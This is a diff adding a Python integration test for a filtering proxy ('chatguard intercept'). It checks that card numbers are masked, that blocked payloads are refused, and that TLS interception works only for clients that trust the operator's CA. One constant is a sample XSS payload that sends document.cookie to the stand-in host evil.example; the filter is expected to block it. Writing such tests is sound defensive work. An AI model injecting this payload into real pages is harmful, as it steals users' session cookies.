@@ -1,0 +1,181 @@
+"""`chatguard intercept` as a real process, a real client using it as its proxy (regular mode), real
+backends: a card number sent by the client arrives masked, a blocked payload is refused, WebSocket frames
+are filtered, and TLS is intercepted with the operator's CA (and only for clients that trust it)."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import signal
+import socket
+import ssl
+import sys
+from collections.abc import AsyncIterator
+from pathlib import Path
+from typing import Any
+
+import aiohttp
+import pytest
+import yaml
+from aiohttp import web
+
+from gateway.tls.certs import DevCerts, create_dev_certs
+from tests.helpers import serve_app
+
+pytestmark = pytest.mark.slow
+
+CARD = "4111 1111 1111 1111"
+ATTACK = "<script>document.location='http://evil.example/?c='+document.cookie</script>"
+MESSAGES = {"inbound": {"json": ["/text"]}, "outbound": {"json": ["/text", "/messages/*/text"]}}
+
+
+def free_port() -> int:
+    with socket.socket() as sock:
+        sock.bind(("127.0.0.1", 0))
+        port: int = sock.getsockname()[1]
+        return port
+
+
+class Chat:
+    """A backend that records what reaches it: HTTP bodies and WebSocket frames."""
+
+    def __init__(self) -> None:
+        self.received: list[Any] = []  # each body or frame, parsed
+        self.app = web.Application()
+        self.app.router.add_route("*", "/{tail:.*}", self.handle)
+
+    async def handle(self, request: web.Request) -> web.StreamResponse:
+        if request.headers.get("Upgrade", "").lower() == "websocket":
+            ws = web.WebSocketResponse()
+            await ws.prepare(request)
+            async for message in ws:
+                self.received.append(json.loads(message.data))
+                await ws.send_str(json.dumps({"text": f"echo {json.loads(message.data)['text']}"}))
+            return ws
+        self.received.append(await request.json())
+        return web.json_response({"messages": [{"text": f"your card {CARD} is on file"}]})
+
+
+@pytest.fixture(scope="module")
+def certs(tmp_path_factory: pytest.TempPathFactory) -> tuple[DevCerts, DevCerts]:
+    """(the backend's certificates, the operator's interception CA): two unrelated CAs."""
+    return (create_dev_certs(tmp_path_factory.mktemp("backend-pki"), client_name=None),
+            create_dev_certs(tmp_path_factory.mktemp("intercept-ca"), client_name=None))
+
+
+class Proxy:
+    def __init__(self, port: int, process: asyncio.subprocess.Process, log: Path) -> None:
+        self.port, self.process, self.log = port, process, log
+
+    @property
+    def url(self) -> str:
+        return f"http://127.0.0.1:{self.port}"
+
+
+@pytest.fixture
+async def proxy(tmp_path: Path, certs: tuple[DevCerts, DevCerts]) -> AsyncIterator[tuple[Proxy, Chat, Chat, int]]:
+    backend_pki, operator_ca = certs
+    plain, secure = Chat(), Chat()
+    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
+    context.load_cert_chain(backend_pki.server_cert, backend_pki.server_key)
+    async with serve_app(plain.app) as plain_url, serve_app(secure.app, ssl_context=context) as secure_url:
+        plain_port, secure_port = int(plain_url.rsplit(":", 1)[1]), int(secure_url.rsplit(":", 1)[1])
+        routes = [
+            {"name": "plain", "match": {"path": "/api/{room}/messages", "host": "localhost"}, "upstream": "plain",
+             "allow": ["anonymous"], "messages": MESSAGES, "filters": ["mask", "threat"]},
+            {"name": "secure", "match": {"path": "/api/{room}/messages", "host": "chat.localhost"},
+             "upstream": "secure", "allow": ["anonymous"], "messages": MESSAGES, "filters": ["mask", "threat"]},
+            {"name": "socket", "match": {"path": "/ws", "websocket": True, "host": "chat.localhost"},
+             "upstream": "secure", "allow": ["anonymous"], "messages": MESSAGES, "filters": ["mask", "threat"]},
+        ]
+        config = tmp_path / "chatguard.yaml"
+        config.write_text(yaml.safe_dump({
+            "logging": {"access_log": False},
+            "admin": {"host": "127.0.0.1", "port": free_port()},
+            "upstreams": {"plain": {"url": f"http://127.0.0.1:{plain_port}"},
+                          "secure": {"url": f"https://localhost:{secure_port}",
+                                     "tls": {"ca_file": str(backend_pki.ca_cert)}}},
+            "filters": {"mask": {"use": "masking"}, "threat": {"use": "threat"}},
+            "routes": routes,
+        }))
+        port = free_port()
+        log = tmp_path / "intercept.log"
+        process = await asyncio.create_subprocess_exec(
+            sys.executable, "-m", "gateway", "intercept", "--config", str(config), "--listen-port", str(port),
+            "--ca-dir", str(operator_ca.ca_cert.parent), stdout=asyncio.subprocess.DEVNULL, stderr=log.open("wb"))
+        running = Proxy(port, process, log)
+        try:
+            await _wait_listening(running)
+            yield running, plain, secure, plain_port
+        finally:
+            if process.returncode is None:
+                process.send_signal(signal.SIGTERM)
+                assert await asyncio.wait_for(process.wait(), 30) == 0, log.read_text()[-2000:]
+
+
+async def _wait_listening(proxy: Proxy) -> None:
+    for _ in range(600):
+        if proxy.process.returncode is not None:
+            break
+        try:
+            _, writer = await asyncio.open_connection("127.0.0.1", proxy.port)
+        except OSError:
+            await asyncio.sleep(0.05)
+            continue
+        writer.close()
+        return
+    raise AssertionError(f"intercept did not start: {proxy.log.read_text()[-3000:]}")
+
+
+def trusting(ca: Path) -> ssl.SSLContext:
+    return ssl.create_default_context(cafile=str(ca))
+
+
+async def _post(client: aiohttp.ClientSession, url: str, proxy: Proxy, text: str,
+                **kwargs: Any) -> tuple[int, Any]:
+    async with client.post(url, json={"text": text}, proxy=proxy.url, **kwargs) as resp:
+        return resp.status, await resp.json(content_type=None)
+
+
+async def test_plain_http_through_the_proxy(proxy: tuple[Proxy, Chat, Chat, int]) -> None:
+    running, plain, _, port = proxy
+    url = f"http://localhost:{port}/api/lobby/messages"
+    async with aiohttp.ClientSession() as client:
+        status, body = await _post(client, url, running, f"my card is {CARD}")
+        assert status == 200
+        assert plain.received == [{"text": "my card is [CARD]"}]  # masked before it left the proxy
+        assert CARD not in json.dumps(body)  # and in the answer
+        status, body = await _post(client, url, running, ATTACK)
+        assert status == 403 and body["error"] == "message blocked by policy"
+        assert len(plain.received) == 1  # never forwarded
+        # Routes match on the host the app called: the same path on another host has no route.
+        status, body = await _post(client, f"http://127.0.0.1:{port}/api/lobby/messages", running, "hello")
+        assert status == 404 and body["error"] == "no route"
+        assert len(plain.received) == 1
+
+
+async def test_tls_is_intercepted_with_the_operators_ca(proxy: tuple[Proxy, Chat, Chat, int],
+                                                       certs: tuple[DevCerts, DevCerts]) -> None:
+    running, _, secure, _ = proxy
+    url = "https://chat.localhost/api/lobby/messages"  # the app's idea of the service: the route decides
+    async with aiohttp.ClientSession() as client:
+        status, _ = await _post(client, url, running, f"card {CARD}", ssl=trusting(certs[1].ca_cert))
+        assert status == 200
+        assert secure.received == [{"text": "card [CARD]"}]
+        with pytest.raises(aiohttp.ClientConnectorCertificateError):
+            await _post(client, url, running, f"card {CARD}", ssl=trusting(certs[0].ca_cert))  # not our CA
+        assert len(secure.received) == 1
+
+
+async def test_websocket_frames_are_filtered(proxy: tuple[Proxy, Chat, Chat, int],
+                                             certs: tuple[DevCerts, DevCerts]) -> None:
+    running, _, secure, _ = proxy
+    async with aiohttp.ClientSession() as client, client.ws_connect(
+            "wss://chat.localhost/ws", proxy=running.url, ssl=trusting(certs[1].ca_cert)) as ws:
+        await ws.send_str(json.dumps({"text": f"pay with {CARD}"}))
+        answer = await ws.receive(timeout=10)
+        assert json.loads(answer.data) == {"text": "echo pay with [CARD]"}
+        await ws.send_str(json.dumps({"text": ATTACK}))
+        refused = await ws.receive(timeout=10)
+        assert refused.type is aiohttp.WSMsgType.TEXT and "blocked" in refused.data  # the route's error frame
+        assert secure.received == [{"text": "pay with [CARD]"}]
